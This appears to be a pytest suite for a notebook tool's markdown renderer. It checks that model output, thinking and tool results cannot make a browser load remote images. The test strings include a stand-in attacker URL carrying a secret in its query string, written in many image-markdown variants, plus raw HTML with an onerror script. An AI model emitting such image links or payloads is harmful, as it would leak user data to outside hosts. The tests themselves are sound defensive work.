"""Model markdown never makes the browser fetch anything by itself, here or in markdown written out."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from ollama_nb.markdown import BlockSplitter, safe_markdown, to_html
from ollama_nb.render import static_html
from ollama_nb.reply import Reply
from ollama_nb.trace import ToolRound, Trace

LEAK = "http://attacker.example/leak?secret=s3cr3t"
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=="

# what other renderers (GitHub, JupyterLab markdown cells, VS Code) do with markdown: HTML on
OTHERS = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def fetched(html: str) -> list[str]:
    """Addresses the browser would load by itself from this HTML."""
    return [src for src in re.findall(r"<img[^>]*\bsrc=\"([^\"]*)\"", html) if not src.startswith("data:")]


REMOTE = [
    f"Look: ![chart]({LEAK})",
    f"![ref style][r]\n\n[r]: {LEAK}",
    f"![shortcut]\n\n[shortcut]: {LEAK}",
    "![protocol relative](//attacker.example/x)",
    "![relative](leak.png?secret=1)",
    f"[![in a link]({LEAK})](https://example.com)",
    f"> quoted ![q]({LEAK})\n> more",
    f"- item\n  - sub ![s]({LEAK})",
    f"| a | b |\n|---|---|\n| ![x]({LEAK}) | ![x]({LEAK}) |",
    f"# Title ![h]({LEAK}) #",
    f'![alt\nover two lines]({LEAK} "a title")',
    f"- a\n\n\t![tab]({LEAK})",
]


@pytest.mark.parametrize("text", REMOTE)
def test_a_remote_image_becomes_a_link_that_names_it(text):
    html = to_html(text)
    assert fetched(html) == [] and "<img" not in html
    address = (
        "//attacker.example/x"
        if "//attacker.example/x" in text
        else ("leak.png" if "leak.png" in text else LEAK)
    )
    assert "not loaded: " in html and address.replace("&", "&amp;") in html


def test_data_images_stay_and_raw_html_stays_text():
    html = to_html(f'![dot]({PIXEL}) <img src={LEAK}> <img src="{LEAK}" onerror=alert(1)>')
    assert fetched(html) == [] and html.count("<img") == 1 and PIXEL in html
    assert "&lt;img src=" in html


def test_streamed_blocks_are_rendered_the_same_way():
    splitter = BlockSplitter()
    splitter.feed(f"First ![a]({LEAK}).\n\nSecond ![b]({LEAK})")
    assert fetched(to_html(splitter.take_finished()) + to_html(splitter.tail)) == []


def test_the_saved_output_fetches_nothing_from_answer_thinking_or_tool_result():
    trace = Trace("llama3.2", f"prompt ![p]({LEAK})", "", "2025-01-01T00:00:00+00:00")
    trace.rounds.append(ToolRound("look", {"q": f"![a]({LEAK})"}, 0, 0, result=f"![r]({LEAK})", status="ok"))
    reply = Reply("llama3.2", [], trace, content=f"Answer ![x]({LEAK})", thinking=f"Thought ![t]({LEAK})")
    html = static_html(reply)
    assert fetched(html) == [] and "<img" not in html
    assert html.count("not loaded: http://attacker.example/leak?secret=s3cr3t") == 2  # answer and thinking


@pytest.mark.parametrize("text", REMOTE)
def test_safe_markdown_leaves_no_remote_image_for_other_renderers(text):
    assert fetched(OTHERS.render(text))  # the case is real: other renderers would fetch it
    safe = safe_markdown(text)
    assert fetched(OTHERS.render(safe)) == []
    assert "not loaded:" in OTHERS.render(safe)


def test_safe_markdown_escapes_raw_html_and_leaves_the_rest_alone():
    text = (f"Hi <img src={LEAK}> and `![code]({LEAK})` and <https://example.com>\n\n"
            f"<div>\n![inside html]({LEAK})\n</div>\n\n    ![indented code]({LEAK})\n\n![dot]({PIXEL})\n")  # fmt: skip
    safe = safe_markdown(text)
    html = OTHERS.render(safe)
    assert fetched(html) == [] and "&lt;img src=" in html and "&lt;div&gt;" in html
    assert f"<code>![code]({LEAK})</code>" in html.replace("&amp;", "&")  # code is not touched
    assert f"![indented code]({LEAK})" in safe and f"![dot]({PIXEL})" in safe
    assert '<a href="https://example.com">' in html
    plain = "No images here: `a < b`, *emphasis*, [a link](https://example.com), a | table |"
    assert safe_markdown(plain) is plain


def test_safe_markdown_holds_for_mixed_random_documents():
    pieces = [f"![i]({LEAK})", f"![r][{LEAK[7:12]}]", f"\n\n[{LEAK[7:12]}]: {LEAK}\n\n", "<img src=x>", "`![c](u)`",
              "\n> ", "\n- ", "\n\t", "\n| a | b |\n|---|---|\n| ", " | ", "\n\n", "[", "](http://ok)", "*",
              "\n```\n", "<div>", "\r\n", "!", "\\"]  # fmt: skip
    chance = random.Random(15)
    for _ in range(300):
        text = "".join(chance.choice(pieces) for _ in range(chance.randint(1, 14)))
        html = OTHERS.render(safe_markdown(text))
        assert fetched(html) == [], text
        assert not re.search(r"<(img|div)\b", html), text


def test_a_models_single_line_breaks_are_kept():
    html = to_html("An old silent pond\nA frog jumps into the pond\nSplash! Silence again.")
    assert html.count("<br />") == 2
